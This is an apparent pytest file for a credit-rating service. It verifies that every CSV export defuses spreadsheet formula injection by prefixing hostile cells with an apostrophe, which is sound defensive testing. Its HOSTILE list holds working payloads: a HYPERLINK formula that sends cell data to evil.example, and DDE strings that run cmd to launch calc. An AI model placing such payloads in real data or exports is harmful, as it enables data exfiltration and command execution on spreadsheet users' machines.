"""Every CSV the service writes, read back as a spreadsheet would read it (both databases):
no cell may start a formula (OWASP CSV injection), whatever the public put into the data.

The CSV routes are found in the URL map (every GET route whose rule names csv), so a new
export that this file does not walk fails here. Hostile text reaches each export the way
an attacker would put it there: an entity's name (the public list, the trustworthy list,
the tiers, an inspection plan), an inspector's name, and a sign-in attempt's user name
(the audit trail).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest

from credit_service.access import SYSTEM
from credit_service.config import Settings
from credit_service.inspections import services as inspection_services
from credit_service.tiers import services as tier_services
from credit_service.web import create_app
from tests.factories import CITY, create_entity, create_person, file_award, listed_on

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&B2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: a spreadsheet reads a formula
STATISTICS_LINK = re.compile(r'href="/statistics/([a-z_-]+)\.csv"')


def _csv_routes() -> set[str]:
    """Every GET route that answers a CSV, by its rule (collected on an app without data)."""
    settings = Settings(database_url="sqlite://", secret_key="collect", catalogs_autoload=False)
    app = create_app(settings)
    routes = {r.rule for r in app.url_map.iter_rules() if "GET" in r.methods and "csv" in r.rule}
    app.extensions["credit_service"].close()
    return routes


def read_cells(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def dangerous(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


def neutralised(rows: list[list[str]]) -> set[str]:
    """The hostile values that came out with their apostrophe (each must, in its export).
    Names and user names are stored stripped, so a leading tab or CR never reaches an
    export through them (csv_cell's own tests cover those triggers)."""
    cells = {cell for row in rows for cell in row}
    return {h for h in HOSTILE if "'" + h.strip() in cells}


# --- every CSV endpoint -----------------------------------------------------------------------


CSV_ROUTES = _csv_routes()
WALKED = {
    "/api/v1/public/dishonesty-list/export.csv",
    "/api/v1/public/trustworthy-list/export.csv",
    "/api/v1/tiers/export.csv",
    "/api/v1/inspection-plans/<int:plan_id>/export.csv",
    "/api/v1/public/inspection-plans/export.csv",
    "/api/v1/public/inspection-results/export.csv",
    "/api/v1/admin/audit/export.csv",
    "/statistics/<dataset>.<any(csv, json):extension>",
    # walked by tests/pages/test_import_pages.py (an import's row report: line, the
    # layout's column, the reason in our words, its code)
    "/console/imports/<int:job_id>/report.csv",
}


def test_every_csv_route_is_walked_below():
    assert CSV_ROUTES == WALKED


@pytest.fixture
def hostile_world(ctx, client, auth):  # type: ignore[no-untyped-def]
    """Hostile names everywhere the public can put text that an export shows."""
    tier_services.apply_rule_set(ctx, SYSTEM)
    for n, name in enumerate(HOSTILE):
        listed_on(ctx, name, CITY, date(2026, 6, 1 + n))
    person = create_person(ctx, region_code=CITY, name="=cmd")  # masked: "=***"
    listed_on(ctx, "宣城普通科技有限公司", CITY, date(2026, 7, 1))
    regulator = auth("regulator")
    for n, name in enumerate(HOSTILE):
        made = client.post(
            "/api/v1/inspectors",
            json={"badge_no": f"皖执CSV{n}", "name": name, "office_region": CITY},
            headers=regulator,
        )
        assert made.status_code == 201, made.get_data(as_text=True)
    names = [create_entity(ctx, region_code=CITY, name=n)["identifier"] for n in HOSTILE]
    for identifier in names:  # honoured: on the trustworthy list
        file_award(ctx, identifier)
    plan = client.post(
        "/api/v1/inspection-plans",
        json={
            "region": CITY,
            "period_start": "2027-01-01",
            "period_end": "2027-12-31",
            "triggered": [*names, person["identifier"]],
        },
        headers=regulator,
    )
    assert plan.status_code == 201, plan.get_data(as_text=True)
    for item in plan.get_json()["items"]:  # inspected and published (一公开, D20)
        result = {"outcome": "passed", "note": "现场检查"}
        url = f"/api/v1/inspection-plans/{plan.get_json()['id']}/items/{item['id']}/result"
        assert client.post(url, json=result, headers=regulator).status_code == 200
    inspection_services.publish_due(ctx, SYSTEM)
    for name in HOSTILE:  # anonymous sign-in attempts land in the audit trail
        client.post("/sign-in", data={"username": name, "password": "x"})
    return {"plan": plan.get_json()["id"], "regulator": regulator}


def test_no_csv_cell_starts_a_formula(client, auth, hostile_world, db_kind):
    regulator, plan = hostile_world["regulator"], hostile_world["plan"]
    exports = {  # each streamed answer is read before the next request
        "public list": read_cells(client.get("/api/v1/public/dishonesty-list/export.csv")),
        "trustworthy list": read_cells(client.get("/api/v1/public/trustworthy-list/export.csv")),
        "tiers": read_cells(client.get("/api/v1/tiers/export.csv", headers=regulator)),
        "inspection plan": read_cells(
            client.get(f"/api/v1/inspection-plans/{plan}/export.csv", headers=regulator)
        ),
        "audit": read_cells(client.get("/api/v1/admin/audit/export.csv", headers=auth("auditor"))),
        "public inspection results": read_cells(
            client.get("/api/v1/public/inspection-results/export.csv")
        ),
    }
    for name, rows in exports.items():
        assert dangerous(rows) == [], name
        assert neutralised(rows) == set(HOSTILE), name  # each was there, with its apostrophe
    assert ["'=***"] == [c for r in exports["inspection plan"] for c in r if "*" in c[:3]]
    published = exports["public inspection results"]
    assert ["'=***"] == [c for r in published for c in r if "*" in c[:3]]
    plans = read_cells(client.get("/api/v1/public/inspection-plans/export.csv"))
    assert len(plans) == 2 and dangerous(plans) == []

    datasets = STATISTICS_LINK.findall(client.get("/statistics").get_data(as_text=True))
    assert datasets
    for dataset in datasets:
        rows = read_cells(client.get(f"/statistics/{dataset}.csv"))
        assert len(rows) > 1 and dangerous(rows) == [], dataset
